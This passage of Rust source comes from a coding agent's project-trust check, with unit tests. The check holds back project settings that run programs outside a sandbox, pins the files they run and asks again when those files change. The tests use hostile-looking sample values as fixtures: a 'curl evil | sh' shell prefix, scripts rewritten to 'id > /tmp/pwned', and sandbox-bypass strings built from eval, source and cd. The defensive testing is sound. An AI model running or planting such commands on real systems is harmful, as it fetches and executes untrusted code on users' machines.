    store: Option<&TrustStore>,
    ask: Option<&mut dyn FnMut(&str) -> bool>,
) -> TrustOutcome {
    if settings.held_back().is_empty() {
        return TrustOutcome::NothingHeldBack;
    }
    let file = project.join(".pi").join("settings.json");
    let keys = settings
        .held_back()
        .keys()
        .map(String::as_str)
        .collect::<Vec<_>>()
        .join(", ");
    let pins = pins(project, settings.held_back());
    let state = match store.map(|s| s.state_with(project, settings.held_back(), &pins)) {
        Some(Ok(state)) => state,
        Some(Err(e)) => {
            tracing::warn!("{e}");
            TrustState::NotTrusted
        }
        None => TrustState::NotTrusted,
    };
    if state == TrustState::Trusted {
        settings.apply_held_back();
        return TrustOutcome::Applied;
    }
    let mut why = match state {
        TrustState::Changed => {
            "they, or the project files they run, changed after you trusted this project".to_string()
        }
        TrustState::Outdated => "this project was trusted by an earlier coding-agent, which pinned fewer of the files it runs".to_string(),
        _ => "this project is not trusted".to_string(),
    };
    if !pins.unpinnable.is_empty() {
        // Named in the warning and the question alike: the user must know
        // why this project is asked about every time.
        why.push_str(&format!(
            "; it cannot be trusted for good, so it is asked about each time, because not everything it runs can be pinned: {}",
            pins.unpinnable.join("; ")
        ));
    }
    if let Some(ask) = ask {
        let shown = serde_json::to_string_pretty(&Value::Object(settings.held_back().clone()))
            .unwrap_or_default();
        let mut question = format!(
            "{} wants to run programs outside the sandbox ({why}):\n{shown}\n",
            file.display()
        );
        for (link, target) in &pins.links_out {
            question.push_str(&format!(
                "{link} is a link out of the project to {} (pinned by its content)\n",
                target.display()
            ));
        }
        question.push_str("Trust this project and use these settings?");
        if ask(&question) {
            if let Some(store) = store
                && let Err(e) = store.trust_pinned(project, settings.held_back(), &pins)
            {
                tracing::warn!("the trust was not recorded: {e}");
            }
            settings.apply_held_back();
            return TrustOutcome::Applied;
        }
    }
    let next = if pins.unpinnable.is_empty() {
        format!(
            "review the file, then run `coding-agent trust {}`",
            shell_quote(&project.display().to_string())
        )
    } else {
        "review the file, then answer the question of an interactive run".to_string()
    };
    TrustOutcome::Ignored {
        warning: format!("{}: ignoring {keys}: {why} ({next})", file.display()),
    }
}

fn shell_quote(text: &str) -> String {
    if text
        .chars()
        .all(|c| c.is_ascii_alphanumeric() || "/._-+,:@".contains(c))
    {
        text.to_string()
    } else {
        format!("'{}'", text.replace('\'', "'\\''"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn changed_values_are_held_back_again() {
        let dir = tempfile::tempdir().unwrap();
        let store = TrustStore::at(dir.path().join("agent").join(TRUST_FILE_NAME));
        let project = dir.path().join("p");
        std::fs::create_dir_all(&project).unwrap();
        let mut s = Settings::merged(json!({}), json!({"shellCommandPrefix": "echo ok"}));
        store.trust(&project, s.held_back()).unwrap();
        let mode = std::fs::metadata(store.path()).unwrap().mode() & 0o777;
        assert_eq!(mode, 0o600);
        assert_eq!(
            resolve_project_trust(&mut s, &project, Some(&store), None),
            TrustOutcome::Applied
        );
        assert_eq!(s.shell_command_prefix().as_deref(), Some("echo ok"));

        let mut s = Settings::merged(json!({}), json!({"shellCommandPrefix": "curl evil | sh"}));
        match resolve_project_trust(&mut s, &project, Some(&store), None) {
            TrustOutcome::Ignored { warning } => {
                assert!(warning.contains("shellCommandPrefix"), "{warning}");
                assert!(warning.contains("changed"), "{warning}");
                assert!(warning.contains(".pi/settings.json"), "{warning}");
            }
            other => panic!("{other:?}"),
        }
        assert_eq!(s.shell_command_prefix(), None);
        // A "yes" records the new values.
        let held = s.held_back().clone();
        let mut yes = |_: &str| true;
        assert_eq!(
            resolve_project_trust(&mut s, &project, Some(&store), Some(&mut yes)),
            TrustOutcome::Applied
        );
        assert_eq!(s.shell_command_prefix().as_deref(), Some("curl evil | sh"));
        assert_eq!(store.state(&project, &held).unwrap(), TrustState::Trusted);
        assert!(store.revoke(&project).unwrap());
        assert_eq!(
            store.state(&project, &held).unwrap(),
            TrustState::NotTrusted
        );
    }

    /// Trust pins the project files its values run: the same values over a
    /// rewritten script are held back again.
    #[test]
    fn a_rewritten_script_is_held_back_again() {
        let dir = tempfile::tempdir().unwrap();
        let project = dir.path().join("p");
        std::fs::create_dir_all(&project).unwrap();
        std::fs::write(project.join("mcp.sh"), "exit 0\n").unwrap();
        let store = TrustStore::at(dir.path().join("trust.json"));
        let held: Map<String, Value> = serde_json::from_value(json!({
            "mcpServers": {"helper": {"command": "sh", "args": ["mcp.sh"]}}
        }))
        .unwrap();
        store.trust(&project, &held).unwrap();
        assert_eq!(store.state(&project, &held).unwrap(), TrustState::Trusted);
        std::fs::write(project.join("mcp.sh"), "id > /tmp/pwned\n").unwrap();
        assert_eq!(store.state(&project, &held).unwrap(), TrustState::Changed);
        std::fs::write(project.join("mcp.sh"), "exit 0\n").unwrap();
        assert_eq!(store.state(&project, &held).unwrap(), TrustState::Trusted);
        std::fs::remove_file(project.join("mcp.sh")).unwrap();
        assert_eq!(store.state(&project, &held).unwrap(), TrustState::Changed);
        // Resolved in the server's `cwd`, and pinned as absent until made.
        std::fs::create_dir_all(project.join("srv")).unwrap();
        std::fs::write(project.join("srv/server.py"), "benign").unwrap();
        let held: Map<String, Value> = serde_json::from_value(json!({
            "mcpServers": {"s": {"command": "python3", "args": ["server.py", "later.py"], "cwd": "srv"}}
        }))
        .unwrap();
        store.trust(&project, &held).unwrap();
        assert_eq!(store.state(&project, &held).unwrap(), TrustState::Trusted);
        std::fs::write(project.join("srv/server.py"), "planted").unwrap();
        assert_eq!(store.state(&project, &held).unwrap(), TrustState::Changed);
        std::fs::write(project.join("srv/server.py"), "benign").unwrap();
        std::fs::write(project.join("srv/later.py"), "planted").unwrap();
        assert_eq!(store.state(&project, &held).unwrap(), TrustState::Changed);
    }

    #[test]
    fn a_file_others_can_write_is_not_believed() {
        let dir = tempfile::tempdir().unwrap();
        let store = TrustStore::at(dir.path().join(TRUST_FILE_NAME));
        store.trust(dir.path(), &Map::new()).unwrap();
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(store.path(), std::fs::Permissions::from_mode(0o666)).unwrap();
        assert!(matches!(
            store.state(dir.path(), &Map::new()),
            Err(TrustError::Unsafe { .. })
        ));
    }

    fn held(value: Value) -> Map<String, Value> {
        serde_json::from_value(value).unwrap()
    }

    fn cannot_pin(store: &TrustStore, project: &Path, held: &Map<String, Value>) -> Vec<String> {
        match store.state(project, held).unwrap() {
            TrustState::CannotPin(what) => what,
            other => panic!("expected CannotPin, got {other:?}"),
        }
    }

    /// `${VAR:-srv.sh}` runs `srv.sh`: that file is pinned (not a file
    /// named by the unexpanded text), so rewriting it asks again.
    #[test]
    fn an_expanded_command_pins_the_file_it_runs() {
        let dir = tempfile::tempdir().unwrap();
        let project = dir.path().join("p");
        std::fs::create_dir_all(&project).unwrap();
        std::fs::write(project.join("srv.sh"), "exit 0\n").unwrap();
        let store = TrustStore::at(dir.path().join("trust.json"));
        let held = held(json!({"mcpServers": {"s": {
            "command": "sh", "args": ["${CODING_AGENT_TEST_UNSET_VAR:-srv.sh}"]
        }}}));
        store.trust(&project, &held).unwrap();
        assert_eq!(store.state(&project, &held).unwrap(), TrustState::Trusted);
        std::fs::write(project.join("srv.sh"), "id > /tmp/pwned\n").unwrap();
        assert_eq!(store.state(&project, &held).unwrap(), TrustState::Changed);
        // Run through a shell, an expansion the shell makes cannot be
        // pinned: never trusted, named.
        let held = held_shell("sh ${SRV:-srv.sh} $SRV");
        let what = cannot_pin(&store, &project, &held);
        assert!(what[0].contains("mcpServers.s.args"), "{what:?}");
        assert!(what[0].contains('$'), "{what:?}");
        let e = store.trust(&project, &held).unwrap_err();
        assert!(matches!(e, TrustError::CannotPin { .. }), "{e}");
        // Without expansion the words are pinned.
        let held = held_shell("exec sh 'srv.sh'");
        store.trust(&project, &held).unwrap();
        std::fs::write(project.join("srv.sh"), "exit 0\n").unwrap();
        assert_eq!(store.state(&project, &held).unwrap(), TrustState::Changed);
        for line in ["sh $HOME/x", "sh `pwd`/x", "sh *.sh", "sh ~/x", "sh \"$X\""] {
            assert!(
                !cannot_pin(&store, &project, &held_shell(line)).is_empty(),
                "{line}"
            );
        }
        assert_eq!(shell_words("a 'b c';d>e").unwrap(), ["a", "b c", "d", "e"]);
    }

    fn held_shell(line: &str) -> Map<String, Value> {
        held(json!({"mcpServers": {"s": {"command": "/bin/sh", "args": ["-c", line]}}}))
    }

    /// A server's script listed after more documents than the budget:
    /// the project is not trusted, and the message names the budget.
    /// The review's bypasses: a shell line behind a wrapper, a `cd` in a
    /// shell line, `..` and a server `cwd` out of a monorepo's
    /// subdirectory. Each file is pinned (a change asks again) or the
    /// project cannot be pinned at all; none runs unpinned.
    #[test]
    fn files_reached_around_the_project_are_pinned_or_refused() {
        let dir = tempfile::tempdir().unwrap();
        let store = TrustStore::at(dir.path().join("trust.json"));
        let repo = dir.path().join("mono");
        let project = repo.join("app");
        std::fs::create_dir_all(repo.join(".git")).unwrap();
        std::fs::create_dir_all(&project).unwrap();
        std::fs::write(project.join("run.sh"), "exit 0\n").unwrap();
        std::fs::write(repo.join("run.sh"), "exit 0\n").unwrap();
        // Pinned: changing the file asks again.
        for (server, file) in [
            (
                json!({"command": "env", "args": ["sh", "-c", "sh<run.sh"]}),
                project.join("run.sh"),
            ),
            (json!({"command": "../run.sh"}), repo.join("run.sh")),
            (
                json!({"command": "sh", "args": ["run.sh"], "cwd": ".."}),
                repo.join("run.sh"),
            ),
        ] {
            let pinned = held(json!({"mcpServers": {"s": server.clone()}}));
            store.trust(&project, &pinned).unwrap();
            assert_eq!(
                store.state(&project, &pinned).unwrap(),
                TrustState::Trusted,
                "{server}"
            );
            std::fs::write(&file, "id > /tmp/pwned\n").unwrap();
            assert_eq!(
                store.state(&project, &pinned).unwrap(),
                TrustState::Changed,
                "{server}"
            );
            std::fs::write(&file, "exit 0\n").unwrap();
        }
        // Refused: what they run depends on where the line goes.
        let pinned = held(
            json!({"mcpServers": {"s": {"command": "sh", "args": ["-c", "cd .. && sh run.sh"]}}}),
        );
        assert!(cannot_pin(&store, &project, &pinned)[0].contains("changes directory"));
        // Outside any repository, `..` leaves the project: refused.
        let lone = dir.path().join("lone/app");
        std::fs::create_dir_all(&lone).unwrap();
        let pinned = held(json!({"mcpServers": {"s": {"command": "../run.sh"}}}));
        assert!(cannot_pin(&store, &lone, &pinned)[0].contains("leads out of the project"));
        let pinned =
            held(json!({"mcpServers": {"s": {"command": "sh", "args": ["x"], "cwd": "../.."}}}));
        let why = cannot_pin(&store, &lone, &pinned);
        assert!(why.iter().any(|w| w.contains(".cwd")), "{why:?}");
    }

    /// The second review's bypasses: what an interpreter completes (`-m
    /// srv` runs `srv.py`), what a build tool reads (`Makefile`), a
    /// script's own `#!` interpreter, a quoted line that sources or
    /// evaluates, and `/proc/self/cwd`. Each is pinned or refused.
    #[test]
    fn what_a_program_really_runs_is_pinned_or_refused() {
        let dir = tempfile::tempdir().unwrap();
        let store = TrustStore::at(dir.path().join("trust.json"));
        let project = dir.path().join("p");
        std::fs::create_dir_all(&project).unwrap();
        for (server, file) in [
            (
                json!({"command": "python3", "args": ["-m", "srv"]}),
                "srv.py",
            ),
            (
                json!({"command": "python3", "args": ["-c", "import srv"]}),
                "srv.py",
            ),
            (json!({"command": "node", "args": ["srv"]}), "srv.js"),
            (
                json!({"command": "node", "args": ["-e", "0"], "env": {"NODE_OPTIONS": "--require ./x"}}),
                "x.js",
            ),
            (
                json!({"command": "make", "args": ["-s", "serve"]}),
                "Makefile",
            ),
            (
                json!({"command": "npm", "args": ["run", "serve"]}),
                "package.json",
            ),
            (json!({"command": "./run"}), "interp"),
            // A module the script imports, beside it.
            (
                json!({"command": "python3", "args": ["tool.py"]}),
                "helper.py",
            ),
        ] {
            std::fs::write(project.join("tool.py"), "import helper\n").unwrap();
            std::fs::write(project.join(file), "v1\n").unwrap();
            std::fs::write(project.join("run"), "#!./interp\n").unwrap();
            let pinned = held(json!({"mcpServers": {"s": server.clone()}}));
            store.trust(&project, &pinned).unwrap();
            assert_eq!(
                store.state(&project, &pinned).unwrap(),
                TrustState::Trusted,
                "{server}"
            );
            std::fs::write(project.join(file), "evil\n").unwrap();
            assert_eq!(
                store.state(&project, &pinned).unwrap(),
                TrustState::Changed,
                "{server}"
            );
            std::fs::remove_file(project.join(file)).unwrap();
        }
        for (server, why) in [
            (
                json!({"command": "bash", "args": ["-c", "eval 'source ./x.sh'"]}),
                "evaluates",
            ),
            (
                json!({"command": "sh", "args": ["-c", "sh -c \". ./x.sh\""]}),
                "reads another file",
            ),
            (json!({"command": "/proc/self/cwd/srv.sh"}), "/proc"),
        ] {
            let pinned = held(json!({"mcpServers": {"s": server.clone()}}));
            let what = cannot_pin(&store, &project, &pinned);
            assert!(what.iter().any(|w| w.contains(why)), "{server}: {what:?}");
        }
    }

    #[test]
    fn past_the_budget_nothing_is_trusted() {
        let dir = tempfile::tempdir().unwrap();
        let project = dir.path().join("p");
        std::fs::create_dir_all(&project).unwrap();
        let mut args: Vec<String> = (0..260).map(|i| format!("doc{i}.md")).collect();
        for name in &args {
            std::fs::write(project.join(name), name).unwrap();
        }
        std::fs::write(project.join("srv.sh"), "exit 0\n").unwrap();
        args.push("srv.sh".into());
        let store = TrustStore::at(dir.path().join("trust.json"));
        let held = held(json!({"mcpServers": {"s": {"command": "sh", "args": args}}}));
        let what = cannot_pin(&store, &project, &held);
        assert!(what.iter().any(|w| w.contains("256 files")), "{what:?}");
        assert!(store.trust(&project, &held).is_err());
        let mut s = Settings::merged(json!({}), json!({"mcpServers": held["mcpServers"]}));
        match resolve_project_trust(&mut s, &project, Some(&store), None) {
            TrustOutcome::Ignored { warning } => {
                assert!(warning.contains("trust budget"), "{warning}")
            }
            other => panic!("{other:?}"),
        }
    }

    /// A project extension that is a link out of the project is pinned by
    /// its target, which the question shows.
    #[test]
    fn a_link_out_of_the_project_pins_its_target() {
        let dir = tempfile::tempdir().unwrap();
        let project = dir.path().join("p");
        std::fs::create_dir_all(project.join(".pi/extensions")).unwrap();
        let target = dir.path().join("elsewhere-ext");
        std::fs::write(&target, "#!/bin/sh\nexit 0\n").unwrap();
        std::os::unix::fs::symlink(&target, project.join(".pi/extensions/ext")).unwrap();
        let store = TrustStore::at(dir.path().join("trust.json"));
        let held = held(json!({"extensions": [".pi/extensions/ext"]}));
        let pinned = pins(&project, &held);
        let present = pinned.files.values().filter(|v| *v != "absent").count();
        assert_eq!(present, 1, "{pinned:?}");
        assert_eq!(
            pinned.links_out,
            [(
                ".pi/extensions/ext".to_string(),
                std::fs::canonicalize(&target).unwrap()
            )]
        );
        store.trust(&project, &held).unwrap();
        assert_eq!(store.state(&project, &held).unwrap(), TrustState::Trusted);
        std::fs::write(&target, "#!/bin/sh\nid > /tmp/pwned\n").unwrap();
        assert_eq!(store.state(&project, &held).unwrap(), TrustState::Changed);
        let mut shown = String::new();
        let mut s = Settings::merged(json!({}), json!({"extensions": [".pi/extensions/ext"]}));
        let mut no = |q: &str| {
            shown = q.to_string();
            false
        };
        resolve_project_trust(&mut s, &project, Some(&store), Some(&mut no));
        assert!(shown.contains(&target.display().to_string()), "{shown}");
        assert!(
            shown.contains(".pi/extensions/ext is a link out"),
            "{shown}"
        );
    }

    /// A pinned file replaced by a FIFO is a changed pin, found without
    /// waiting for a writer.
    #[test]
    fn a_fifo_is_not_pinned_and_does_not_hang() {
        let dir = tempfile::tempdir().unwrap();
        let project = dir.path().join("p");
        std::fs::create_dir_all(&project).unwrap();
        std::fs::write(project.join("srv.sh"), "exit 0\n").unwrap();
        let store = TrustStore::at(dir.path().join("trust.json"));
        let held = held(json!({"shellPath": "srv.sh"}));
        store.trust(&project, &held).unwrap();
        std::fs::remove_file(project.join("srv.sh")).unwrap();
        rustix::fs::mkfifoat(
            rustix::fs::CWD,
            project.join("srv.sh"),
            rustix::fs::Mode::from_raw_mode(0o600),
        )
        .unwrap();
        // (A blocking open would hang here: the test harness's timeout
        // is the guard; the end-to-end test bounds it explicitly.)
        let what = cannot_pin(&store, &project, &held);
        assert!(
            what[0].contains("srv.sh") && what[0].contains("FIFO"),
            "{what:?}"
        );
    }

    /// A directory a value names is pinned entry by entry.
    #[test]
    fn a_named_directory_is_pinned_whole() {
        let dir = tempfile::tempdir().unwrap();
        let project = dir.path().join("p");
        std::fs::create_dir_all(project.join("lib/sub")).unwrap();
        std::fs::write(project.join("lib/sub/a.py"), "a").unwrap();
        let store = TrustStore::at(dir.path().join("trust.json"));
        let held = held(json!({"mcpServers": {"s": {
            "command": "python3", "args": ["-m", "srv"], "env": {"PYTHONPATH": "lib"}
        }}}));
        store.trust(&project, &held).unwrap();
        assert_eq!(store.state(&project, &held).unwrap(), TrustState::Trusted);
        std::fs::write(project.join("lib/sub/b.py"), "planted").unwrap();
        assert_eq!(store.state(&project, &held).unwrap(), TrustState::Changed);
    }

    /// A record written before this pin format is asked about again.
    #[test]
    fn an_older_record_is_asked_about_again() {
        let dir = tempfile::tempdir().unwrap();
        let store = TrustStore::at(dir.path().join("trust.json"));
        let held = held(json!({"shellCommandPrefix": "echo ok"}));
        store.trust(dir.path(), &held).unwrap();
        let mut records = store.load().unwrap();
        for record in records.values_mut() {
            record.as_object_mut().unwrap().remove("pinFormat");
        }
        store.save(records).unwrap();
        assert_eq!(
            store.state(dir.path(), &held).unwrap(),
            TrustState::Outdated
        );
    }
}
